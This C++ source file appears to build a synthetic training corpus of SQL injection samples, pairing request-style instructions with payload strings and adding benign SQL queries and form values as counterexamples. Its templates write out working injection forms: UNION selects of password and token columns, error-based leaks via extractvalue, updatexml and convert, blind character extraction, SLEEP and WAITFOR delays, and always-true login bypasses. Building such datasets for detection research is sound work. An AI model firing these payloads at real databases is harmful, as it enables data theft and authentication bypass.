// Template bank for the synthetic SQLi corpus.
//
// Every malicious form builds its payload and its instruction together: each
// instruction clause describes a feature that is present in that payload, so
// keyword-based prompt adherence of a template sample against its own
// instruction is always perfect. Phrase-bank version: 1.

#include <array>
#include <string>
#include <vector>

#include <fmt/format.h>

#include "sqlgan/corpus.hpp"

namespace sqlgan {
namespace {

constexpr std::array kTables = {"users",     "accounts", "products", "orders",    "customers",
                                "employees", "members",  "sessions", "payments", "admins"};
constexpr std::array kColumns = {"username", "password", "email",   "name",  "price",
                                 "status",   "title",    "address", "token", "phone"};
constexpr std::array kWords = {"shoes",  "laptop", "coffee", "garden",  "winter", "invoice", "report", "blue",
                               "summer", "tablet", "pizza",  "monitor", "travel", "guitar",  "camera", "desk"};
constexpr std::array kNames = {"alice", "bob",   "carol", "dave",  "erin",    "frank",   "grace",
                               "heidi", "ivan",  "judy",  "mallory", "oscar", "O'Brien", "D'Angelo"};
constexpr std::array kInfoFunctions = {"version", "user", "database"};
constexpr std::array kMssqlInfo = {"@@version", "db_name()", "user_name()"};

constexpr std::array kRequestPrefixes = {
    "Please help me generate a sql injection code.",
    "Generate a SQL injection payload.",
    "Write a SQL injection string for testing.",
};

template <class Array>
std::string pick(Rng& rng, const Array& options) {
    return options[rng.uniform_index(options.size())];
}

int uniform_int(Rng& rng, int lo, int hi) { return lo + static_cast<int>(rng.uniform_index(static_cast<std::size_t>(hi - lo + 1))); }

std::string repeat_join(std::string_view item, int count, std::string_view sep) {
    std::string out;
    for (int i = 0; i < count; ++i) {
        if (i > 0) out += sep;
        out += item;
    }
    return out;
}

std::string join_clauses(const std::vector<std::string>& clauses) {
    std::string out;
    for (std::size_t i = 0; i < clauses.size(); ++i) {
        if (i > 0) out += (i + 1 == clauses.size()) ? " and " : ", ";
        out += clauses[i];
    }
    return out;
}

CodeSample make_malicious(Rng& rng, std::string output, const std::vector<std::string>& clauses) {
    CodeSample s;
    s.instruction = pick(rng, kRequestPrefixes) + std::string(" The SQL injection ") + join_clauses(clauses) + ".";
    s.output = std::move(output);
    s.label = Label::malicious;
    s.source = Source::template_;
    return s;
}

std::string quote_clause(Rng& rng) {
    constexpr std::array options = {"uses a single-quote to break out of the original query",
                                    "closes the string literal with a single quote",
                                    "escapes the quoted value with a single quote"};
    return pick(rng, options);
}

std::string comment_clause(Rng& rng) {
    constexpr std::array options = {"ends with a comment symbol `--` to ignore the rest of the query",
                                    "comments out the remaining query with `--`",
                                    "terminates with a `--` comment"};
    return pick(rng, options);
}

// --- union based -----------------------------------------------------------

CodeSample union_based(Rng& rng) {
    const std::string table = pick(rng, kTables);
    const std::string c1 = pick(rng, kColumns);
    const std::string c2 = pick(rng, kColumns);
    const int n = uniform_int(rng, 1, 999);
    switch (rng.uniform_index(5)) {
        case 0: {
            const int k = uniform_int(rng, 1, 5);
            const std::string pct = rng.uniform_index(2) == 0 ? "%" : "";
            return make_malicious(rng, fmt::format("{}{}'union all select {}--", n, pct, repeat_join("null", k, ",")),
                                  {quote_clause(rng),
                                   fmt::format("followed by a UNION ALL statement that selects {} NULL values", k),
                                   comment_clause(rng)});
        }
        case 1:
            return make_malicious(rng, fmt::format("' UNION SELECT null,{},{} FROM {}--", c1, c2, table),
                                  {quote_clause(rng),
                                   fmt::format("uses UNION SELECT to read {} and {} from the {} table", c1, c2, table),
                                   comment_clause(rng)});
        case 2: {
            std::string cols;
            const int k = uniform_int(rng, 2, 5);
            for (int i = 1; i <= k; ++i) cols += (i > 1 ? "," : "") + std::to_string(i);
            return make_malicious(rng, fmt::format("{}' UNION ALL SELECT {} FROM {}-- -", n, cols, table),
                                  {quote_clause(rng), fmt::format("probes {} columns with UNION ALL SELECT", k),
                                   comment_clause(rng)});
        }
        case 3:
            return make_malicious(rng, fmt::format("{} UNION SELECT {},{} FROM {}--", n, c1, c2, table),
                                  {"targets a numeric parameter without quotes",
                                   fmt::format("appends a UNION SELECT of {} and {} from {}", c1, c2, table),
                                   comment_clause(rng)});
        default:
            return make_malicious(rng, fmt::format("')) UNION SELECT {},{} FROM {} LIMIT 1--", c1, c2, table),
                                  {"closes a single quote and two parentheses",
                                   fmt::format("adds UNION SELECT over the {} table with LIMIT 1", table),
                                   comment_clause(rng)});
    }
}

// --- error based -----------------------------------------------------------

CodeSample error_based(Rng& rng) {
    const std::string table = pick(rng, kTables);
    const std::string col = pick(rng, kColumns);
    const int n = uniform_int(rng, 1, 999);
    switch (rng.uniform_index(5)) {
        case 0: {
            const int a = uniform_int(rng, 1, 9);
            const std::string user = rng.uniform_index(2) == 0 ? "" : pick(rng, kNames);
            return make_malicious(rng, fmt::format("{}' OR {}={} --", user, a, a),
                                  {quote_clause(rng), fmt::format("adds an always-true OR {}={} condition", a, a),
                                   "comments out the password check with `--`"});
        }
        case 1: {
            const std::string fn = pick(rng, kInfoFunctions);
            return make_malicious(rng, fmt::format("' AND extractvalue(1,concat(0x7e,(SELECT {}())))--", fn),
                                  {quote_clause(rng), "forces an XPATH error with extractvalue and concat",
                                   fmt::format("leaks {}() through a SELECT subquery", fn), comment_clause(rng)});
        }
        case 2:
            return make_malicious(
                rng, fmt::format("' AND updatexml(null,concat(0x3a,(SELECT {} FROM {} LIMIT 1)),null)--", col, table),
                {quote_clause(rng), "raises an error with updatexml and concat",
                 fmt::format("reads {} from {} with a SELECT subquery", col, table), comment_clause(rng)});
        case 3: {
            const std::string fn = pick(rng, kMssqlInfo);
            return make_malicious(rng, fmt::format("{}' AND 1=convert(int,(SELECT {}))--", n, fn),
                                  {quote_clause(rng), "causes a type conversion error with convert",
                                   fmt::format("selects {} inside the conversion", fn), comment_clause(rng)});
        }
        default: {
            const std::string w = pick(rng, kWords);
            return make_malicious(rng, fmt::format("\" OR \"{}\"=\"{}\" --", w, w),
                                  {"breaks out with a double quote", "adds an always-true string comparison",
                                   comment_clause(rng)});
        }
    }
}

// --- boolean blind ---------------------------------------------------------

CodeSample boolean_blind(Rng& rng) {
    const std::string table = pick(rng, kTables);
    const std::string col = pick(rng, kColumns);
    const int n = uniform_int(rng, 0, 99);
    switch (rng.uniform_index(5)) {
        case 0:
            return make_malicious(rng, fmt::format("' AND (SELECT COUNT(*) FROM {}) > {} AND '1'='1", table, n),
                                  {quote_clause(rng),
                                   fmt::format("checks the {} table with a SELECT COUNT(*) subquery", table),
                                   "rebalances the trailing quote with an always-true '1'='1' test"});
        case 1: {
            const char c = static_cast<char>('a' + rng.uniform_index(26));
            return make_malicious(rng,
                                  fmt::format("{}' AND SUBSTRING((SELECT {} FROM {} LIMIT 1),{},1)='{}'--", n, col,
                                              table, uniform_int(rng, 1, 8), c),
                                  {quote_clause(rng),
                                   fmt::format("compares one character of {} using SUBSTRING over a SELECT", col),
                                   comment_clause(rng)});
        }
        case 2: {
            const int a = uniform_int(rng, 1, 99);
            return make_malicious(rng, fmt::format("{} AND {}={}", n + 1, a, a),
                                  {"targets a numeric parameter",
                                   fmt::format("appends an always-true AND {}={} test", a, a)});
        }
        case 3:
            return make_malicious(rng,
                                  fmt::format("' OR ASCII(SUBSTRING((SELECT {} FROM {} LIMIT 1),{},1))>{} --", col,
                                              table, uniform_int(rng, 1, 8), uniform_int(rng, 64, 122)),
                                  {quote_clause(rng), "compares the ASCII code of a SUBSTRING",
                                   fmt::format("reads {} from {} with SELECT", col, table), comment_clause(rng)});
        default: {
            const std::string w = pick(rng, kWords);
            // apostrophes in the name are doubled so the literal stays closed
            std::string name = pick(rng, kNames);
            for (std::size_t i = name.find('\''); i != std::string::npos; i = name.find('\'', i + 2)) {
                name.insert(i, 1, '\'');
            }
            return make_malicious(rng, fmt::format("{}' AND '{}'='{}", name, w, w),
                                  {"injects a single quote after a username",
                                   "appends an always-true string comparison"});
        }
    }
}

// --- time based ------------------------------------------------------------

CodeSample time_based(Rng& rng) {
    const int s = uniform_int(rng, 2, 10);
    switch (rng.uniform_index(5)) {
        case 0:
            return make_malicious(rng,
                                  fmt::format("' AND IF(ASCII(SUBSTRING((SELECT DATABASE()),{},1))={},SLEEP({}),null) "
                                              "AND '1'='1",
                                              uniform_int(rng, 1, 8), uniform_int(rng, 97, 122), s),
                                  {quote_clause(rng), "tests a character of the database name with ASCII and SUBSTRING",
                                   fmt::format("delays the response with SLEEP({})", s),
                                   "balances the quote with an always-true '1'='1' check"});
        case 1:
            return make_malicious(rng, fmt::format("'; WAITFOR DELAY '0:0:{}'--", s),
                                  {quote_clause(rng), "stacks a WAITFOR DELAY statement after a semicolon",
                                   comment_clause(rng)});
        case 2:
            return make_malicious(rng, fmt::format("{}' AND SLEEP({})--", uniform_int(rng, 1, 999), s),
                                  {quote_clause(rng), fmt::format("pauses the database with SLEEP({})", s),
                                   comment_clause(rng)});
        case 3:
            return make_malicious(rng,
                                  fmt::format("{}) AND BENCHMARK({},MD5('{}'))--", uniform_int(rng, 1, 999),
                                              uniform_int(rng, 1, 9) * 1000000, pick(rng, kWords)),
                                  {"closes a parenthesis around a numeric value",
                                   "burns CPU time with BENCHMARK over MD5", comment_clause(rng)});
        default:
            return make_malicious(rng, fmt::format("' OR pg_sleep({})--", s),
                                  {quote_clause(rng), fmt::format("delays a PostgreSQL server with pg_sleep({})", s),
                                   comment_clause(rng)});
    }
}

}  // namespace

CodeSample synthesize_malicious(Technique technique, Rng& rng) {
    switch (technique) {
        case Technique::error_based:
            return error_based(rng);
        case Technique::boolean_blind:
            return boolean_blind(rng);
        case Technique::time_based:
            return time_based(rng);
        case Technique::union_based:
            return union_based(rng);
    }
    throw std::logic_error("unknown technique");
}

CodeSample synthesize_benign(Rng& rng) {
    const std::string table = pick(rng, kTables);
    const std::string c1 = pick(rng, kColumns);
    const std::string c2 = pick(rng, kColumns);
    const std::string word = pick(rng, kWords);
    const int n = uniform_int(rng, 1, 9999);
    CodeSample s;
    s.label = Label::benign;
    s.source = Source::template_;
    switch (rng.uniform_index(9)) {
        case 0:
            s.instruction = fmt::format("Write a SQL query that reads {} from {} by id.", c1, table);
            s.output = fmt::format("SELECT {} FROM {} WHERE id = {}", c1, table, n);
            break;
        case 1:
            s.instruction = fmt::format("Write a SQL query that finds {} rows by {}.", table, c1);
            s.output = fmt::format("SELECT * FROM {} WHERE {} = '{}'", table, c1, word);
            break;
        case 2:
            s.instruction = fmt::format("Write a SQL statement that updates {} in {}.", c1, table);
            s.output = fmt::format("UPDATE {} SET {} = '{}' WHERE id = {}", table, c1, word, n);
            break;
        case 3:
            s.instruction = fmt::format("Write a SQL statement that inserts a row into {}.", table);
            s.output = fmt::format("INSERT INTO {} ({}, {}) VALUES ('{}', {})", table, c1, c2, word, n);
            break;
        case 4:
            s.instruction = fmt::format("Write a SQL statement that deletes a row from {}.", table);
            s.output = fmt::format("DELETE FROM {} WHERE id = {}", table, n);
            break;
        case 5:
            s.instruction = fmt::format("Write a SQL query that counts {} rows.", table);
            s.output = fmt::format("SELECT COUNT(*) FROM {} WHERE {} > {} ORDER BY {}", table, c1, n, c1);
            break;
        case 6: {
            const int lo = uniform_int(rng, 1, 500);
            s.instruction = fmt::format("Write a SQL query that filters {} by a price range.", table);
            s.output = fmt::format("SELECT name, price FROM {} WHERE price BETWEEN {} AND {}", table, lo,
                                   lo + uniform_int(rng, 1, 500));
            break;
        }
        case 7:
            s.instruction = "Provide a typical login form value.";
            s.output = rng.uniform_index(2) == 0 ? pick(rng, kNames)
                                                 : fmt::format("{}.{}@example.com", pick(rng, kNames), word);
            break;
        default:
            s.instruction = "Provide a typical search box value.";
            s.output = rng.uniform_index(2) == 0 ? fmt::format("{} {}", word, pick(rng, kWords))
                                                 : fmt::format("{} {}", word, n);
            break;
    }
    return s;
}

}  // namespace sqlgan
